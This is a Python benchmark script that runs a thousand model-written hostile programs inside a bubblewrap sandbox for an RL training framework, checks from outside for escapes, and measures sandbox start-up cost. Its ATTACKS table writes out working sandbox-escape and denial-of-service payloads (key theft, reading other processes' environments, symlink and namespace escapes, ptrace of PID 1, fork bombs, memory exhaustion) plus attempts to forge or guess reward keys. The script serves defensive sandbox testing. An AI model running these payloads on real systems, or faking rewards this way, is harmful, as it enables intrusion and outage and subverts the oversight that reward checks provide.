"""Effects of programs that a model wrote outside of their sandbox, and what a sandbox costs.

A thousand hostile programs are run by `asyncrl.sandbox.programs` in the sandbox `bwrap`: each tries
one thing, and between them honest programs run. Each has the gateway's socket in view, and its own
session's key for calls. What they did is looked for afterwards, from outside:

    connections     a listener on loopback, on an abstract socket or on a named one was reached
    files           a file of the user's was changed, its mode too, or a new one is there
    awards          a reward was given, for which no program has the key
    honest          an honest program came to something else than it should
    processes       a process that a program started lives, or one of ours does not
    output          more of a program's output was kept than it may say
    late            a program was not gone a while after its deadline
    memory          more memory was taken than so many programs at a time may have

Then: the median time from start to end of a program that does nothing, in the sandbox and bare,
measured in turn.

    python bench/hostile_programs.py [--programs 1000] [--seed 0] [--starts 100]
"""

from __future__ import annotations

import argparse
import contextlib
import os
import random
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

import trio

from asyncrl.agents.gateway.capability import capability, has_right
from asyncrl.sandbox.programs.bubblewrap import Bubblewrap
from asyncrl.sandbox.programs.languages import program_of
from asyncrl.sandbox.programs.program import GATEWAY, Program, Ran
from asyncrl.sandbox.programs.runner import run
from asyncrl.sandbox.programs.under_trio import run_in_trio

MARK = f"hostile-{os.getpid()}"
AT_A_TIME = 4
SECONDS = 1.5
LATE_S = 30.0
"""Seconds after its deadline at which a program is late: it shares two cores with fork bombs."""
MOST = AT_A_TIME * (2**30 + 2**28)
"""Bytes of memory that so many programs may take."""
OUTPUT = 2**16
STARTED_MS = 50.0

ASK = """
import socket
def ask(text):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect({gateway!r})
        s.sendall((text + "\\n").encode())
        return s.recv(100)
"""
ATTACKS = {
    "key": "import shutil; shutil.copy({key!r}, {free!r} + '/{n}')",
    "key to a socket": (
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect({named!r}); "
        "s.send(open({key!r}, 'rb').read())"
    ),
    "environment": "import os; open({free!r} + '/{n}', 'w').write(str(dict(os.environ)))",
    "environment of others": (
        "import glob; open({free!r} + '/{n}', 'wb').write(b''.join(open(p, 'rb').read() "
        "for p in glob.glob('/proc/*/environ')))"
    ),
    "network": "import socket; socket.create_connection({tcp!r}, 1).send(b'here')",
    "abstract socket": (
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect({abstract!r}); s.send(b'here')"
    ),
    "every interface": (
        "import socket\nfor host in ('127.0.0.1', '::1', '0.0.0.0', '169.254.169.254'):\n"
        "    try: socket.create_connection((host, {tcp[1]}), 0.2).send(b'here')\n"
        "    except OSError: pass"
    ),
    "files": "open({victim!r}, 'w').write('changed')",
    "modes": "import os; os.chmod({victim!r}, 0o777)",
    "links": (
        "import os\nos.symlink({victim!r}, 'a')\nos.symlink('/proc/1/root', 'b')\n"
        "for path in ('a', 'b' + {victim!r}, '/proc/self/root/..' + {victim!r},\n"
        "             '/proc/self/cwd/../..' + {victim!r}):\n"
        "    try: open(path, 'w').write('changed')\n    except OSError: pass"
    ),
    "inherited descriptors": (
        "import os\nfor fd in range(256):\n"
        "    for do in (lambda: os.fchmod(fd, 0), lambda: os.ftruncate(fd, 0),\n"
        "               lambda: fd > 2 and os.write(fd, b'changed')):\n"
        "        try: do()\n        except OSError: pass"
    ),
    "forged end": (
        "import os\nfor fd in range(256):\n"
        '    try: os.write(fd, b\'{{ "exit-code": 0 }}\\n["Scored", 1.0, []]\' * 3)\n'
        "    except OSError: pass\nos._exit(1)"
    ),
    "signals": (
        "import os, signal\nfor pid in [0, -1, *range(1, 300), {us}]:\n"
        "    try: os.kill(pid, signal.SIGTERM)\n    except OSError: pass"
    ),
    "stop": "import os, signal; os.kill(1, signal.SIGSTOP); os.kill(0, signal.SIGSTOP)",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork bomb of a shell": (
        "import os\nos.execvp('sh', ['sh', '-c', 'f() {{ f | f & }}; f; sleep 100'])"
    ),
    "threads": (
        "import threading, time\nwhile True:\n"
        "    try: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "    except RuntimeError: time.sleep(99)"
    ),
    "memory": "a = []\nwhile True: a.append(bytearray(2**24))",
    "shared memory": (
        "import mmap\na = []\nwhile True:\n    a.append(mmap.mmap(-1, 2**26))\n"
        "    a[-1].write(bytes(2**26))"
    ),
    "memory in files": (
        "n = 0\nwhile True:\n    n += 1\n    open(f'/tmp/{{n}}', 'wb').write(bytes(2**22))"
    ),
    "memory in pipes": "import os\na = []\nwhile True: a.append(os.pipe())",
    "files without end": "n = 0\nwhile True:\n    n += 1\n    open(f'/tmp/{{n}}', 'w')",
    "daemon": (
        "import os\nif not os.fork():\n    os.setsid()\n    if not os.fork(): "
        "os.execv('/bin/sleep', [{mark!r}, '1000'])\n    os._exit(0)"
    ),
    "daemons": (
        "import os\nfor n in range(9):\n    if not os.fork():\n        os.setsid()\n"
        "        os.closerange(0, 9)\n        os.execv('/bin/sleep', [{mark!r}, '1000'])"
    ),
    "namespaces": (
        "import ctypes, os\nl = ctypes.CDLL(None)\nl.unshare(0x10000000 | 0x20000)\n"
        "l.mount(b'none', b'/', None, 0x44000, None)\nl.setns(3, 0)\nl.chroot(b'/proc/1/root')\n"
        "os.chdir('/')\nopen({free!r} + '/{n}', 'w').write('out')"
    ),
    "first process": (
        "import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)\n"
        "for name in ('mem', 'oom_score_adj'):\n"
        "    try: open(f'/proc/1/{{name}}', 'r+').write('-1000')\n    except OSError: pass"
    ),
    "devices": (
        "import os\nfor path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/fuse'):\n"
        "    try: open(path, 'rb').read(1); open({free!r} + '/{n}', 'w')\n"
        "    except OSError: pass\n"
        "os.mknod('x', 0o60666, os.makedev(254, 0))\nopen('x', 'rb').read(1)\n"
        "open({free!r} + '/{n}', 'w')"
    ),
    "output": "while True: print('x' * 99999)",
    "errors": "import sys\nwhile True: sys.stderr.write('x' * 99999)",
    "time": "while True: pass",
    "silence": "import os, time\nos.closerange(0, 9)\ntime.sleep(1000)",
    "gateway's mode": "import os; os.chmod({gateway!r}, 0o600)",
    "gateway removed": "import os; os.unlink({gateway!r})",
    "awards by its own key": ASK + "ask('reward s{n} {call}')",
    "awards by guesses": (
        ASK + "import secrets\nfor _ in range(300): ask('reward s{n} ' + secrets.token_hex(32))\n"
        "for key in ('', '0' * 64, 'None', '\\udcff'.encode(errors='replace').decode()):\n"
        "    ask('reward s{n} ' + key)"
    ),
    "awards by derivation": (
        ASK + "import hmac\nfor key in (bytes.fromhex({call!r}), {call!r}.encode(), b''):\n"
        "    for text in (b'reward', b's{n}', b'asyncrl capability\\0reward\\0s{n}'):\n"
        "        ask('reward s{n} ' + hmac.digest(key, text, 'sha256').hex())"
    ),
    "awards by keys it finds": (
        ASK + "import os, re\nfound = set()\nfor root, _, names in os.walk('/'):\n"
        "    if root.startswith(('/usr', '/proc', '/dev')): continue\n"
        "    for name in names:\n"
        "        try: found |= set(re.findall('[0-9a-f]{{64}}', open(root + '/' + name).read()))\n"
        "        except (OSError, ValueError): pass\n"
        "for key in [*found, *os.environ.values()]: ask('reward s{n} ' + key[:99])"
    ),
    "awards to another": ASK + "ask('reward s0 {call}'); ask('reward s0\\0reward {call}')",
}


def hostile(kind: str, places: dict[str, object], number: int, key: bytes) -> Program:
    """The program that tries this; it has the key for calls of its session."""
    call = capability(key, f"s{number}", "call")
    code = ATTACKS[kind].format(**places, n=number, call=call, gateway=GATEWAY)
    template = Program(
        argv=(),
        seconds=SECONDS,
        output_bytes=OUTPUT,
        gateway=str(places["socket"]),
        environment={"OPENAI_API_KEY": call},
        proc=number % 2 == 0,
    )
    return program_of("python", code.encode(), template)


class Judge:
    """A gateway that knows calls and rewards, by their keys; counts rewards."""

    def __init__(self, key: bytes) -> None:
        self._key = key
        self.asked = self.awarded = 0

    async def serve(self, stream: trio.SocketStream) -> None:
        """Answer one line."""
        async with stream:
            try:
                line = bytes(await stream.receive_some(4096))
                right, session, given = line.decode(errors="replace").rstrip("\n").split(" ")
                allowed = right in ("call", "reward") and has_right(
                    given,
                    self._key,
                    session,
                    right,  # type: ignore[arg-type]
                )
                self.asked += 1
                self.awarded += allowed and right == "reward"
                await stream.send_all(b"yes" if allowed else b"no")
            except (ValueError, trio.BrokenResourceError):
                return


class Victims:
    """Things that no program may reach, though anybody may use them; `places` has their places."""

    def __init__(self, folder: Path, stack: contextlib.ExitStack) -> None:
        key, self._victim, self._free = folder / "key", folder / "victim", folder / "free"
        key.write_text("a" * 64)
        self._victim.write_text("as it was")
        self._free.mkdir()
        for path, mode in ((key, 0o644), (self._victim, 0o666), (self._free, 0o777)):
            path.chmod(mode)
        self._modes = self._victim.stat().st_mode
        self._servers = [stack.enter_context(socket.create_server(("127.0.0.1", 0)))]
        for address in (f"\0{MARK}", str(folder / "named")):
            self._servers.append(stack.enter_context(socket.socket(socket.AF_UNIX)))
            self._servers[-1].bind(address)
            self._servers[-1].listen()
        (folder / "named").chmod(0o777)
        for server in self._servers:
            server.setblocking(False)
        leaking = os.open(self._victim, os.O_RDWR)
        stack.callback(os.close, leaking)
        os.set_inheritable(leaking, True)
        self._ours = stack.enter_context(subprocess.Popen(["sleep", "100000"]))
        stack.callback(self._ours.kill)
        self.gateway = stack.enter_context(socket.socket(socket.AF_UNIX))
        self._socket = folder / "gateway"
        self.gateway.bind(str(self._socket))
        self._socket.chmod(0o777)
        self.gateway.listen(1024)
        self.places: dict[str, object] = {
            "key": str(key),
            "victim": str(self._victim),
            "free": str(self._free),
            "tcp": self._servers[0].getsockname(),
            "abstract": f"\0{MARK}",
            "named": str(folder / "named"),
            "socket": str(self._socket),
            "mark": MARK,
            "us": self._ours.pid,
        }

    def effects(self) -> Counter[str]:
        """Traces of what was done to it, and of what programs have left."""
        found: Counter[str] = Counter()
        for server in self._servers:
            with contextlib.suppress(BlockingIOError):
                server.accept()
                found["connections"] += 1
        found["files"] += len(list(self._free.iterdir()))
        found["files"] += self._victim.read_text() != "as it was"
        found["files"] += self._victim.stat().st_mode != self._modes
        found["files"] += self._socket.stat().st_mode & 0o777 != 0o777
        found["processes"] += left_running() + (self._ours.poll() is not None)
        return found


async def attack(victims: Victims, count: int, seed: int) -> Counter[str]:
    """Effects by kind, of `count` programs, while they run."""
    effects: Counter[str] = Counter()
    became: Counter[str] = Counter()
    key = os.urandom(32)
    sandbox, judge = Bubblewrap(), Judge(key)
    kinds = [list(ATTACKS)[n % len(ATTACKS)] for n in range(count)]
    random.Random(seed).shuffle(kinds)
    lowest = start = free_memory()
    room = trio.Semaphore(AT_A_TIME)
    patient = Program(argv=(), stdin=b"4\n", seconds=LATE_S)
    honest = program_of("python", b"print(int(input()) + 1)", patient)

    async def one(number: int, kind: str) -> None:
        nonlocal lowest
        async with room:
            ran = await run_in_trio(hostile(kind, victims.places, number, key), sandbox)
            became[what(ran)] += 1
            effects["output"] += max(len(ran.stdout), len(ran.stderr)) > OUTPUT
            effects["late"] += ran.seconds > SECONDS + LATE_S
            lowest = min(lowest, free_memory())
            if number % 5 == 0:
                right = await run_in_trio(honest, sandbox)
                effects["honest"] += not right.well or right.stdout != b"5\n"

    listener = trio.SocketListener(trio.socket.from_stdlib_socket(victims.gateway))
    async with trio.open_nursery() as serving:
        serving.start_soon(trio.serve_listeners, judge.serve, [listener])
        async with trio.open_nursery() as nursery:
            for number, kind in enumerate(kinds, 1):
                nursery.start_soon(one, number, kind)
        serving.cancel_scope.cancel()
    effects["awards"] += judge.awarded
    effects["memory"] += start - lowest > MOST
    print(
        f"    what became of them: {dict(became)}; asked for rewards {judge.asked} times; "
        f"memory taken at most: {(start - lowest) >> 20} MiB"
    )
    return effects


def what(ran: Ran) -> str:
    """The way in which a program ended."""
    return (
        "deadline"
        if ran.timed_out
        else "too much output"
        if ran.truncated
        else "well"
        if ran.well
        else "error"
    )


def free_memory() -> int:
    text = Path("/proc/meminfo").read_text().split("MemAvailable:")[1]
    return int(text.split()[0]) * 1024


def left_running() -> int:
    """Processes that a program started and left."""
    found = 0
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found += MARK.encode() in path.read_bytes().split(b"\0")
    return found


def starts(count: int) -> tuple[float, float]:
    """Median milliseconds of a program that does nothing: in the sandbox, and bare."""
    sandbox, nothing = Bubblewrap(), Program(argv=("true",))
    inside, bare = [], []
    for _ in range(count):
        inside.append(run(nothing, sandbox).seconds)
        began = time.perf_counter()
        subprocess.run(["true"], capture_output=True, check=True)
        bare.append(time.perf_counter() - began)
    return 1000 * statistics.median(inside), 1000 * statistics.median(bare)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--programs", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--starts", type=int, default=100)
    given = parser.parse_args()
    if missing := Bubblewrap().missing():
        print(f"this machine does not have the sandbox bwrap: {missing}")
        return 1
    with tempfile.TemporaryDirectory() as name, contextlib.ExitStack() as stack:
        Path(name).chmod(0o755)
        victims = Victims(Path(name), stack)
        effects = trio.run(attack, victims, given.programs, given.seed)
        effects += victims.effects()
    kinds = (
        *("connections", "files", "awards", "honest"),
        *("processes", "output", "late", "memory"),
    )
    print(
        f"{given.programs:,} hostile programs of {len(ATTACKS)} kinds  "
        f"effects outside: {effects.total()}"
    )
    print(f"    {', '.join(f'{kind} {effects[kind]}' for kind in kinds)}")
    inside, bare = starts(given.starts)
    print(
        f"start to end of a program that does nothing, median of {given.starts}: "
        f"{inside:.1f} ms in bwrap, {bare:.1f} ms bare: {inside - bare:.1f} ms more"
    )
    return int(effects.total() > 0 or inside - bare > STARTED_MS)


if __name__ == "__main__":
    sys.exit(main())
